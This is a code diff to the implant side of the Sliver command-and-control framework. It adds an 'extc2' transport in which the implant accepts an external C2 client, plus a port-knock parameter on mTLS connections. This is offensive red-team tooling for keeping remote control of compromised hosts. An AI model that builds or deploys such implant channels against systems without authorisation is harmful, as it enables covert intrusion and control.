@@ -33,8 +33,6 @@ import (
 	// {{end}}
 
 	// {{if .Config.MTLSc2Enabled}}
-	"crypto/tls"
-
 	"github.com/bishopfox/sliver/implant/sliver/transports/mtls"
 
 	// {{end}}
@@ -115,6 +113,14 @@ func StartConnectionLoop(abort <-chan struct{}, temporaryC2 ...string) <-chan *C
 					// {{end}}
 					continue
 				}
+			case "extc2":
+				connection, err = mtlsConnect(uri)
+				if err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("[extc2] Connection failed %s", err)
+					// {{end}}
+					continue
+				}
 				// {{end}}  - MTLSc2Enabled
 			case "wg":
 				// *** WG ***
@@ -198,7 +204,7 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 	send := make(chan *pb.Envelope)
 	recv := make(chan *pb.Envelope)
 	ctrl := make(chan struct{})
-	var conn *tls.Conn
+	var conn *mtls.Conn
 
 	connection := &Connection{
 		Send:    send,
@@ -229,17 +235,27 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 	}
 
 	connection.Start = func() error {
-		// {{if .Config.Debug}}
-		log.Printf("Connecting -> %s", uri.Host)
-		// {{end}}
-		lport, err := strconv.Atoi(uri.Port())
-		if err != nil {
+		var err error
+		if uri.Scheme == "extc2" {
+			// The External C2 channel's client connects to us
+			// {{if .Config.Debug}}
+			log.Printf("Waiting for external c2 client <- %s", uri.Host)
+			// {{end}}
+			conn, err = mtls.ExternalC2Accept(uri.Host)
+		} else {
 			// {{if .Config.Debug}}
-			log.Printf("Error parsing mtls listen port %s (default to 8888)", err)
+			log.Printf("Connecting -> %s", uri.Host)
 			// {{end}}
-			lport = 8888
+			var lport int
+			lport, err = strconv.Atoi(uri.Port())
+			if err != nil {
+				// {{if .Config.Debug}}
+				log.Printf("Error parsing mtls listen port %s (default to 8888)", err)
+				// {{end}}
+				lport = 8888
+			}
+			conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport), uri.Query().Get("knock"))
 		}
-		conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport))
 		if err != nil {
 			return err
 		}